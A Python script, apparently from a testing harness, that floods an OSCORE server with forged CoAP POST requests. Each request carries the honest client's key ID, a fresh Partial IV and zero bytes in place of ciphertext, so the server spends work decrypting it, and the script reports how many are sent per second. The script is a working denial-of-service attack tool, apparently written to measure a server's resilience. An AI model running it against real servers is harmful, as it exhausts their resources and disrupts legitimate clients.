#!/usr/bin/env python3
"""Forged requests of OSCORE: the contexts of a server and of an honest client, and a stranger who knows the client's ID.

As a program, it sends for attack.py, within the clients' namespace: each request has a number that is new to the server, which
has to decrypt it to learn that it is forged.
"""

import argparse
import json
import struct
import time

from hostile import place, steadily, udp

SECRET = "000102030405060708090a0b0c0d0e0f"
SERVER_ID, CLIENT_ID = "01", "02"


def contexts(folder):
    """The arguments of a server and of an honest client of the command."""
    files = []
    for name, sender, recipient in (("server", SERVER_ID, CLIENT_ID), ("client", CLIENT_ID, SERVER_ID)):
        files.append(folder / f"{name}.toml")
        files[-1].write_text(f'[[context]]\nsender-id = "{sender}"\nrecipient-id = "{recipient}"\nmaster-secret = "{SECRET}"\n')
        files[-1].chmod(0o600)
    server, client = map(str, files)
    return ["--oscore", server], ["--engine", "client", "--oscore", client]


def forge(number):
    """A POST with an OSCORE option (RFC 8613 section 6.1): a Partial IV of four bytes and the client's `kid`; and what is no
    ciphertext of it."""
    return struct.pack("!BBHBBIB", 0x40, 2, number & 0xFFFF, 0x96, 0x0C, 1 << 24 | number, int(CLIENT_ID, 16)) + b"\xff" + bytes(14)


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("server")
    parser.add_argument("--rate", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    options = parser.parse_args()
    stranger, to, sent = udp("10.0.0.1"), place(options.server), 0
    stranger.connect(to)
    print("ready", flush=True)
    for number in steadily(options.rate, options.seconds):
        try:
            stranger.send(forge(number))
            sent += 1
        except (BlockingIOError, ConnectionRefusedError):
            time.sleep(0)
    print(json.dumps({"forged/s": sent / options.seconds}), flush=True)


if __name__ == "__main__":
    main()
